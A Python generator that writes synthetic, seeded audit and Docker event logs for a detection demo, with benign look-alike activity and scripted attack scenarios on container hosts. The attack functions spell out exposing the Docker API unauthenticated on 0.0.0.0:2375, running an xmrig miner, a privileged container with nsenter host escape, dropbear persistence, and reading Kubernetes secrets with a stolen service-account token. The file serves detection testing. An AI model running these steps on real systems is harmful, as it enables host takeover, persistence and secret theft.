"""The demo estate's container-host part: Fabrikam's Docker hosts and Kubernetes nodes
(tests/tools/hostlog.py). demo/generate.py calls it; demo/README.md tells the story and
the alerts it must raise.

History: the two weeks before today (24 February to 9 March):
  dc1-docker-01   the internal tools host (auditd): a registry, the wiki and Falco
                  (privileged, allowlisted); dockerd with -H fd:// and a loopback
                  tcp:// listener for the local backup tool; Anna runs docker
                  ps/logs/pull/exec and throw-away containers on weekdays
  dc1-build-07    a build VM Jenkins no longer schedules much on (auditd): a few Maven
                  builds a day in `docker run --rm` containers; dockerd with -H fd://
  dc1-docker-02   the Git host (ECS process events from Elastic Agent): Gitea and its
                  own sshd (allowlisted), dockerd with --tlsverify on 2376
  dc1-k8s-w-05    a dc1 worker (auditd): the dashboard's metrics scraper (allowlisted)
                  and a Flux controller running kubectl (allowlisted)
  aks-shop-31847202-vmss000004
                  an AKS shop node from the 4 March node image upgrade on (auditd): the
                  Azure Disk CSI node plugin mounting volumes (privileged, allowlisted),
                  ingress-nginx, Container Insights querying the API from kube-system,
                  the payments API calling its payment provider with a bearer token
Docker events for every host (one file per host a week) and, today, each host's
docker inspect snapshot taken at midnight (which is how today's scan learns the
containers that were started in history).
Today (10 March) holds one occurrence of each host.* type, so that exactly one alert of
each type fires, and the look-alikes above go on as every day.

Python 3 standard library only; seeded, so the same bytes every run.
"""
import gzip
import json
import os
import random
import re
import sys
from datetime import timedelta

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tests", "tools"))
import hostlog as H  # noqa: E402
import weblog as W  # noqa: E402

FIRST_DAY = W.at(2026, 2, 24)
TODAY = W.at(2026, 3, 10)
DAYS = (TODAY - FIRST_DAY).days
AKS_JOIN = 8                                # 4 March: the node image upgrade adds the node
DOCKERD_LOCAL = ("-H", "fd://", "-H", "tcp://127.0.0.1:2375", "--containerd=/run/containerd/containerd.sock")
DOCKERD_TLS = ("--tlsverify", "--tlscacert=/etc/docker/ca.pem", "--tlscert=/etc/docker/server.pem",
               "--tlskey=/etc/docker/server-key.pem", "-H", "fd://", "-H", "tcp://0.0.0.0:2376")
ANNA, JENKINS = 1001, 1002
TOKEN = ("eyJhbGciOiJSUzI1NiIsImtpZCI6InNob3AifQ.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6c2hvcDpjYXRhbG9nLWFwaS"
         "J9.c2lnbmF0dXJl")
SA_TOKEN = "$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)"
AKS_NODE = "aks-shop-31847202-vmss000004"
ACR = "fabrikamprod.azurecr.io"
MCR = "mcr.microsoft.com/"


def day(n, hh=0, mm=0, ss=0):
    return FIRST_DAY + timedelta(days=n, hours=hh, minutes=mm, seconds=ss)


def pod_labels(pod, ns, container):
    return {"io.kubernetes.pod.name": pod, "io.kubernetes.pod.namespace": ns,
            "io.kubernetes.container.name": container}


class Node:
    """One auditd host: its Host writer, its running containers and what
    each was started with (for the midnight docker inspect snapshot)."""

    def __init__(self, name, first_pid):
        self.h = H.Host(node=name, first_pid=first_pid)
        self.name = name
        self.running = {}                   # name -> (Container, start time, cmd, HostConfig overrides)
        self.serial = 1000                  # auditd's event serial, across files

    def start(self, t, name, image, cmd, labels=None, privileged=False, host_config=None):
        c = self.h.start(t, name, image, cmd, labels=labels, privileged=privileged)
        self.running[name] = (c, t, cmd, host_config or {})
        return c

    def c(self, name):
        return self.running[name][0]

    def snapshot(self):
        """docker inspect of every running container, as a cron job takes it."""
        return [self.h.inspect_record(t, c, cmd, hc) for c, t, cmd, hc in self.running.values()]

    def take(self):
        """The audit text and docker events written since the last take, in
        time order as auditd and dockerd write them (the day's writers emit
        one activity after another)."""
        self.h.events.sort(key=lambda e: e["timeNano"])
        audit, self.serial = in_time_order(self.h.audit.lines, self.serial)
        events = self.h.events_text()
        self.h.audit.lines, self.h.events = [], []
        return audit, events


STAMP = re.compile(r"msg=audit\((\d+)\.(\d+):(\d+)\)")


def in_time_order(lines, first):
    """auditd records sorted by event time, the serials renumbered from
    first to rise with it as auditd's do; the records of one event stay
    together. Returns the text and the next serial."""
    events = {}
    for line in lines:
        events.setdefault(STAMP.search(line).group(0), []).append(line)
    keyed = sorted(events.items(), key=lambda kv: tuple(int(x) for x in STAMP.match(kv[0]).groups()))
    out = []
    for serial, (stamp, recs) in enumerate(keyed, first):
        sec, ms, _ = STAMP.match(stamp).groups()
        new = "msg=audit(%s.%s:%d)" % (sec, ms, serial)
        out += [r.replace(stamp, new) for r in recs]
    return ("\n".join(out) + "\n" if out else ""), first + len(keyed)


def ecs_in_time_order(lines):
    return "".join(sorted(lines, key=lambda line: json.loads(line)["@timestamp"]))


class Estate:
    def __init__(self, seed):
        self.rnd = random.Random(seed)
        self.tools = Node("dc1-docker-01", 2000)
        self.build = Node("dc1-build-07", 2000)
        self.worker = Node("dc1-k8s-w-05", 3000)
        self.aks = Node(AKS_NODE, 4000)
        self.ecs = []                       # dc1-docker-02's ECS process events
        self.ecs_pid = 7000
        self.gitea = H.container_id("gitea" + "gitea/gitea:1.22.6")

    # ---- dc1-docker-01: the internal tools host ----------------------------------

    def tools_boot(self, t):
        n = self.tools
        n.h.boot(t, DOCKERD_LOCAL)
        n.running = {}
        n.start(t + timedelta(seconds=20), "registry", "registry:2.8.3",
                ["/entrypoint.sh", "/etc/docker/registry/config.yml"])
        n.start(t + timedelta(seconds=21), "wiki", "requarks/wiki:2.5", ["node", "server"])
        n.start(t + timedelta(seconds=22), "falco", "falcosecurity/falco:0.39.2", ["/usr/bin/falco"],
                privileged=True, host_config={"Binds": ["/proc:/host/proc:ro", "/dev:/host/dev"]})

    def tools_day(self, d, t0, weekday):
        n, r = self.tools, self.rnd
        wiki = n.c("wiki")
        for m in range(1, 24 * 60, 15):     # the wiki syncs its pages to Git
            n.h.run_in(t0 + timedelta(minutes=m, seconds=7), wiki, wiki.init_pid, "/usr/bin/git",
                       ["git", "pull", "--rebase", "origin", "main"])
        for m in range(5, 24 * 60, 60):     # the local backup tool, through the loopback listener
            n.h.exec(t0 + timedelta(minutes=m), "/usr/local/bin/restic",
                     ["restic", "backup", "--tag", "docker", "/var/lib/docker/volumes"], 1)
        if not weekday:
            return
        n.h.login(t0 + timedelta(hours=9, minutes=r.randint(0, 40)), uid=ANNA)
        t = t0 + timedelta(hours=10)
        for args in (["docker", "ps"], ["docker", "logs", "--tail", "100", "wiki"],
                     ["docker", "pull", "registry:2.8.3"], ["docker", "exec", "registry", "ls", "/var/lib/registry"]):
            n.h.shell(t, args, uid=ANNA)
            t += timedelta(minutes=r.randint(1, 9))
        n.h.docker_exec(t, n.c("registry"), ["ls", "/var/lib/registry"], uid=0)
        n.h.shell(t + timedelta(minutes=3), ["docker", "run", "--rm", "--name", "dnscheck", "alpine:3.19",
                                             "nslookup", "wiki.fabrikam.local"], uid=ANNA)
        c = n.h.start(t + timedelta(minutes=3, seconds=1), "dnscheck", "alpine:3.19", ["nslookup", "wiki.fabrikam.local"])
        n.h.stop(t + timedelta(minutes=3, seconds=2), c)

    # ---- dc1-build-07: the forgotten build VM ---------------------------------------

    def build_boot(self, t):
        self.build.h.boot(t)
        self.build.running = {}

    def maven_build(self, t, job, number):
        n = self.build
        sshd = n.h.exec(t, "/usr/sbin/sshd", ["sshd: jenkins [priv]"], 1)
        n.h.bash = n.h.exec(t + timedelta(seconds=1), "/usr/bin/bash", ["bash", "-c", "docker run ..."], sshd,
                            uid=JENKINS)
        name = "%s-%d" % (job, number)
        n.h.shell(t + timedelta(seconds=2), ["docker", "run", "--rm", "--name", name, "-v",
                                             "/home/jenkins/workspace/%s:/src" % job, "-w", "/src",
                                             "maven:3.9.6-eclipse-temurin-21", "mvn", "-B", "package"], uid=JENKINS)
        c = n.h.start(t + timedelta(seconds=3), name, "maven:3.9.6-eclipse-temurin-21", ["mvn", "-B", "package"])
        java = n.h.run_in(t + timedelta(seconds=4), c, c.init_pid, "/opt/java/openjdk/bin/java",
                          ["java", "-classpath", "/usr/share/maven/boot/plexus-classworlds-2.7.0.jar",
                           "org.codehaus.plexus.classworlds.launcher.Launcher", "-B", "package"])
        for i in range(6):
            n.h.run_in(t + timedelta(seconds=30 + 20 * i), c, java, "/usr/bin/git",
                       ["git", "rev-parse", "--short", "HEAD"] if i == 0 else ["sh", "-c", "echo test-%d" % i])
        n.h.stop(t + timedelta(minutes=4), c)

    def build_day(self, d, t0, weekday):
        r = self.rnd
        for i in range(r.randint(3, 6) if weekday else r.randint(0, 1)):
            job = r.choice(("legacy-reports", "pricing-batch", "edi-gateway"))
            self.maven_build(t0 + timedelta(hours=r.randint(7, 18), minutes=r.randint(0, 59)), job, 100 + d * 7 + i)

    # ---- dc1-docker-02: the Git host, in ECS --------------------------------------

    def ecs_exec(self, t, exe, args, ppid=1, user="root", container=True, parent=None):
        self.ecs_pid += 1
        box = (self.gitea, "gitea/gitea:1.22.6", "gitea") if container else None
        self.ecs.append(H.ecs_process(t, "dc1-docker-02", self.ecs_pid, ppid, exe, args, user=user, container=box,
                                      parent=parent))
        return self.ecs_pid

    def git_boot(self, t):
        self.ecs_exec(t, "/usr/bin/containerd", ["/usr/bin/containerd"], container=False)
        self.ecs_exec(t + timedelta(seconds=1), "/usr/bin/dockerd", ["/usr/bin/dockerd", *DOCKERD_TLS],
                      container=False)
        self.git_init = self.ecs_exec(t + timedelta(seconds=20), "/usr/bin/s6-svscan", ["/bin/s6-svscan", "/etc/s6"])
        self.git_sshd = self.ecs_exec(t + timedelta(seconds=21), "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D", "-e"],
                                      ppid=self.git_init)

    def git_day(self, d, t0, weekday):
        r = self.rnd
        for i in range(r.randint(40, 70) if weekday else r.randint(2, 8)):
            t = t0 + timedelta(hours=r.randint(7, 19), minutes=r.randint(0, 59), seconds=r.randint(0, 59))
            s = self.ecs_exec(t, "/usr/sbin/sshd", ["sshd: git [priv]"], ppid=self.git_sshd,
                              parent="/usr/sbin/sshd")
            serv = self.ecs_exec(t + timedelta(milliseconds=200), "/usr/local/bin/gitea",
                                 ["/usr/local/bin/gitea", "--config=/data/gitea/conf/app.ini", "serv", "key-%d" % r.randint(1, 30)],
                                 ppid=s, user="git", parent="/usr/sbin/sshd")
            self.ecs_exec(t + timedelta(milliseconds=400), "/usr/bin/git",
                          ["git", r.choice(("upload-pack", "receive-pack")), "/data/git/repositories/fabrikam/app.git"],
                          ppid=serv, user="git", parent="/usr/local/bin/gitea")

    # ---- dc1-k8s-w-05: a dc1 worker ---------------------------------------------

    def worker_boot(self, t):
        n = self.worker
        n.h.containerd = n.h.exec(t, "/usr/bin/containerd", ["/usr/bin/containerd"], 1)
        n.h.exec(t + timedelta(seconds=2), "/usr/bin/kubelet",
                 ["/usr/bin/kubelet", "--config=/var/lib/kubelet/config.yaml",
                  "--container-runtime-endpoint=unix:///run/containerd/containerd.sock"], 1)
        n.running = {}
        n.start(t + timedelta(seconds=30), "k8s_dashboard-metrics-scraper_dashboard-metrics-scraper-5f6b8d9c47-qx2lm_kubernetes-dashboard",
                "docker.io/kubernetesui/metrics-scraper:v1.0.8", ["/metrics-sidecar"],
                labels=pod_labels("dashboard-metrics-scraper-5f6b8d9c47-qx2lm", "kubernetes-dashboard",
                                  "dashboard-metrics-scraper"))
        n.start(t + timedelta(seconds=31), "k8s_manager_kustomize-controller-6bc5d5b8f-w8r4t_flux-system",
                "ghcr.io/fluxcd/kustomize-controller:v1.4.0", ["kustomize-controller"],
                labels=pod_labels("kustomize-controller-6bc5d5b8f-w8r4t", "flux-system", "manager"))
        n.start(t + timedelta(seconds=32), "k8s_fluent-bit_fluent-bit-7m2kd_logging",
                "cr.fluentbit.io/fluent/fluent-bit:3.0.4", ["/fluent-bit/bin/fluent-bit"],
                labels=pod_labels("fluent-bit-7m2kd", "logging", "fluent-bit"))

    def worker_day(self, d, t0, weekday):
        n = self.worker
        s = n.c("k8s_dashboard-metrics-scraper_dashboard-metrics-scraper-5f6b8d9c47-qx2lm_kubernetes-dashboard")
        f = n.c("k8s_manager_kustomize-controller-6bc5d5b8f-w8r4t_flux-system")
        for m in range(1, 24 * 60, 10):
            # its liveness probe, which the kubelet runs through runc exec
            n.h.docker_exec(t0 + timedelta(minutes=m, seconds=3), s,
                            ["wget", "-qO-", "https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/login/status"],
                            events=False)
            n.h.run_in(t0 + timedelta(minutes=m, seconds=40), f, f.init_pid, "/usr/local/bin/kubectl",
                       ["kubectl", "apply", "--server-side", "--token", TOKEN, "-f", "/tmp/kustomization-%d" % m])

    # ---- the AKS shop node --------------------------------------------------------

    CATALOG = "k8s_catalog-api_catalog-api-7d9f8c6b5-x2m4q_shop"

    def aks_boot(self, t):
        n = self.aks
        n.h.containerd = n.h.exec(t, "/usr/bin/containerd", ["/usr/bin/containerd"], 1)
        n.h.exec(t + timedelta(seconds=2), "/usr/local/bin/kubelet",
                 ["/usr/local/bin/kubelet", "--config=/var/lib/kubelet/config.yaml"], 1)
        n.running = {}
        n.start(t + timedelta(seconds=40), "k8s_azuredisk_csi-azuredisk-node-5vq8w_kube-system",
                MCR + "oss/kubernetes-csi/azuredisk-csi:v1.30.1", ["/azurediskplugin", "--endpoint=unix:///csi/csi.sock"],
                labels=pod_labels("csi-azuredisk-node-5vq8w", "kube-system", "azuredisk"), privileged=True,
                host_config={"Binds": ["/var/lib/kubelet:/var/lib/kubelet:rshared", "/dev:/dev"]})
        n.start(t + timedelta(seconds=45), "k8s_ama-logs_ama-logs-8xw2n_kube-system",
                MCR + "azuremonitor/containerinsights/ciprod:3.1.22", ["/opt/main.sh"],
                labels=pod_labels("ama-logs-8xw2n", "kube-system", "ama-logs"))
        n.start(t + timedelta(minutes=2), "k8s_controller_ingress-nginx-controller-5c7d9b6f4-hk8zt_ingress-nginx",
                "registry.k8s.io/ingress-nginx/controller:v1.10.1", ["/nginx-ingress-controller"],
                labels=pod_labels("ingress-nginx-controller-5c7d9b6f4-hk8zt", "ingress-nginx", "controller"))
        n.start(t + timedelta(minutes=3), self.CATALOG, ACR + "/shop/catalog-api:2026.02.24.2", ["dotnet", "Catalog.Api.dll"],
                labels=pod_labels("catalog-api-7d9f8c6b5-x2m4q", "shop", "catalog-api"))
        n.start(t + timedelta(minutes=3), "k8s_payments-api_payments-api-84c6f7d9b-2tnfr_shop",
                ACR + "/shop/payments-api:2026.02.25.1", ["dotnet", "Payments.Api.dll"],
                labels=pod_labels("payments-api-84c6f7d9b-2tnfr", "shop", "payments-api"))

    def aks_day(self, d, t0, weekday):
        n, r = self.aks, self.rnd
        csi = n.c("k8s_azuredisk_csi-azuredisk-node-5vq8w_kube-system")
        ama = n.c("k8s_ama-logs_ama-logs-8xw2n_kube-system")
        ing = n.c("k8s_controller_ingress-nginx-controller-5c7d9b6f4-hk8zt_ingress-nginx")
        pay = n.c("k8s_payments-api_payments-api-84c6f7d9b-2tnfr_shop")
        for hh in range(24):
            t = t0 + timedelta(hours=hh)
            lun = r.randint(0, 3)
            n.h.run_in(t + timedelta(minutes=1), csi, csi.init_pid, "/usr/bin/mount",
                       ["mount", "-t", "ext4", "-o", "defaults", "/dev/sd%s" % "cdef"[lun],
                        "/var/lib/kubelet/plugins/kubernetes.io/csi/disk.csi.azure.com/pv-%d/globalmount" % lun])
            for m in range(0, 60, 5):
                n.h.run_in(t + timedelta(minutes=m, seconds=11), ama, ama.init_pid, "/usr/bin/curl",
                           ["curl", "-sk", "-H", "Authorization: Bearer " + SA_TOKEN,
                            "https://kubernetes.default.svc/api/v1/nodes/" + AKS_NODE])
            n.h.run_in(t + timedelta(minutes=30), ing, ing.init_pid, "/usr/bin/curl",
                       ["curl", "-s", "http://127.0.0.1:10254/healthz"])
            for i in range(r.randint(2, 6) if 7 <= hh < 22 else 0):
                n.h.run_in(t + timedelta(minutes=r.randint(0, 59)), pay, pay.init_pid, "/usr/bin/curl",
                           ["curl", "-s", "-H", "Authorization: Bearer sk_live_4eC39HqLyjWDarjtT1zdp7dc",
                            "https://api.payments.example/v1/charges/ch_%06d" % r.randint(0, 999999)])

    # ---- history and today ---------------------------------------------------------

    def history_day(self, d):
        t0 = day(d)
        weekday = t0.weekday() < 5
        if d == 0:                          # the day's routine starts a minute after midnight
            self.tools_boot(day(d, 0, 0, 1))
            self.build_boot(day(d, 0, 0, 2))
            self.git_boot(day(d, 0, 0, 3))
            self.worker_boot(day(d, 0, 0, 4))
        if d == 8:                          # patch night (Tuesday to Wednesday): the Docker hosts reboot
            self.tools_boot(day(d, 0, 0, 5))
            self.build_boot(day(d, 0, 0, 6))
        if d == AKS_JOIN:
            self.aks_boot(day(d, 3, 21))
        self.tools_day(d, t0, weekday)
        self.build_day(d, t0, weekday)
        self.git_day(d, t0, weekday)
        self.worker_day(d, t0, weekday)
        if d > AKS_JOIN:
            self.aks_day(d, t0, weekday)

    def today(self):
        d = DAYS
        t0 = day(d)
        self.tools_day(d, t0, True)
        self.build_day(d, t0, True)
        self.git_day(d, t0, True)
        self.worker_day(d, t0, True)
        self.aks_day(d, t0, True)
        # look-alike: after the morning's package upgrade dockerd restarts, loopback listener again
        self.tools.h.exec(day(d, 7, 30), "/usr/bin/apt-get", ["apt-get", "-y", "upgrade"], 1)
        self.tools.h.boot(day(d, 7, 31), DOCKERD_LOCAL)
        self.attack_build_vm(d)
        self.attack_aks(d)

    def attack_build_vm(self, d):
        """The attacker uses the Jenkins SSH key printed by PR-1187's build."""
        n = self.build
        h = n.h
        h.bash = None
        sshd = h.exec(day(d, 1, 52), "/usr/sbin/sshd", ["sshd: jenkins [priv]"], 1)
        h.bash = h.exec(day(d, 1, 52, 1), "/usr/bin/bash", ["-bash"], sshd, uid=JENKINS)
        h.shell(day(d, 1, 53), ["sudo", "sed", "-i", "s|-H fd://|-H fd:// -H tcp://0.0.0.0:2375|",
                                "/lib/systemd/system/docker.service"], uid=JENKINS)
        h.shell(day(d, 1, 53, 30), ["sudo", "systemctl", "restart", "docker"], uid=JENKINS)
        h.boot(day(d, 1, 53, 31), ("-H", "fd://", "-H", "tcp://0.0.0.0:2375",
                                   "--containerd=/run/containerd/containerd.sock"))
        # 02:12 through the open port, from outside: docker events show it. Its shim and
        # xmrig are left out of auditd on purpose: with them vigil raises a second
        # miner_image alert, as dc1-build-07/sysupdate, beside the docker event's
        # "sysupdate" (seen first, before any process named the host), and the two
        # entities do not fold into one alert.
        h.start(day(d, 2, 12, 4), "sysupdate", "xmrig/xmrig:6.21.0", ["xmrig"], processes=False)
        # 02:20 back over SSH: a privileged container with the host's / and pid namespace
        h.shell(day(d, 2, 20), ["docker", "run", "-d", "--privileged", "--pid=host", "-v", "/:/host", "--name",
                                "dbg", "alpine:3.19", "sleep", "infinity"], uid=JENKINS)
        dbg = h.start(day(d, 2, 20, 1), "dbg", "alpine:3.19", ["sleep", "infinity"], privileged=True)
        h.shell(day(d, 2, 22), ["docker", "exec", "-it", "dbg", "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
                uid=JENKINS)
        h.docker_exec(day(d, 2, 22, 1), dbg, ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"])
        # 02:26 a way back in that outlives the SSH key: dropbear in the container
        sh = h.docker_exec(day(d, 2, 26), dbg, ["sh"])
        h.run_in(day(d, 2, 26, 20), dbg, sh, "/sbin/apk", ["apk", "add", "--no-cache", "dropbear"])
        h.run_in(day(d, 2, 27), dbg, sh, "/usr/sbin/dropbear", ["dropbear", "-R", "-F", "-E", "-p", "2222"])

    def attack_aks(self, d):
        """After the node-diagnostics DaemonSet (02:38), the attacker enters the catalog
        pod on this node and uses its service-account token."""
        n = self.aks
        cat = n.c(self.CATALOG)
        sh = n.h.docker_exec(day(d, 2, 41), cat, ["/bin/sh"], events=False)
        n.h.run_in(day(d, 2, 41, 30), cat, sh, "/usr/bin/curl",
                   ["curl", "-sk", "-H", "Authorization: Bearer " + SA_TOKEN,
                    "https://kubernetes.default.svc/api/v1/namespaces/shop/secrets"])
        n.h.run_in(day(d, 2, 43), cat, sh, "/usr/bin/wget",
                   ["wget", "-qO-", "--no-check-certificate",
                    "https://kubernetes-dashboard.kubernetes-dashboard.svc.cluster.local/api/v1/csrftoken/login"])


AUDIT_HOSTS = ("tools", "build", "worker", "aks")


def _gz(path, text):
    with open(path, "wb") as f:
        with gzip.GzipFile(filename="", mode="wb", fileobj=f, mtime=0, compresslevel=6) as g:
            g.write(text.encode())


def write(outdir, seed):
    """Write the container-host files under outdir; return (options, [(phase, rel)])."""
    e = Estate(seed)
    for sub in ("history", "today"):
        os.makedirs(os.path.join(outdir, sub, "host"), exist_ok=True)
    files = []
    for week in range(0, DAYS, 7):
        e.ecs = []
        for d in range(week, min(week + 7, DAYS)):
            e.history_day(d)
        stamp = day(week).strftime("%Y%m%d")
        for attr in AUDIT_HOSTS:
            n = getattr(e, attr)
            audit, events = n.take()
            for rel, text in (("history/host/%s-audit.log-%s.gz" % (n.name, stamp), audit),
                              ("history/host/%s-docker-events-%s.jsonl.gz" % (n.name, stamp), events)):
                if text:
                    _gz(os.path.join(outdir, rel), text)
                    files.append(("history", rel))
        rel = "history/host/dc1-docker-02-processes-%s.jsonl.gz" % stamp
        _gz(os.path.join(outdir, rel), ecs_in_time_order(e.ecs))
        files.append(("history", rel))
    # today: the midnight docker inspect snapshots come first
    for attr in AUDIT_HOSTS:
        n = getattr(e, attr)
        if not n.running:
            continue
        rel = "today/host/%s-inspect-2026-03-10.json" % n.name
        with open(os.path.join(outdir, rel), "w") as f:
            f.write(json.dumps(n.snapshot(), indent=4) + "\n")
        files.append(("today", rel))
    e.ecs = []
    e.today()
    for attr in AUDIT_HOSTS:
        n = getattr(e, attr)
        audit, events = n.take()
        for rel, text in (("today/host/%s-audit.log" % n.name, audit),
                          ("today/host/%s-docker-events-2026-03-10.jsonl" % n.name, events)):
            if text:
                with open(os.path.join(outdir, rel), "w") as f:
                    f.write(text)
                files.append(("today", rel))
    rel = "today/host/dc1-docker-02-processes-2026-03-10.jsonl"
    with open(os.path.join(outdir, rel), "w") as f:
        f.write(ecs_in_time_order(e.ecs))
    files.append(("today", rel))
    return [], files
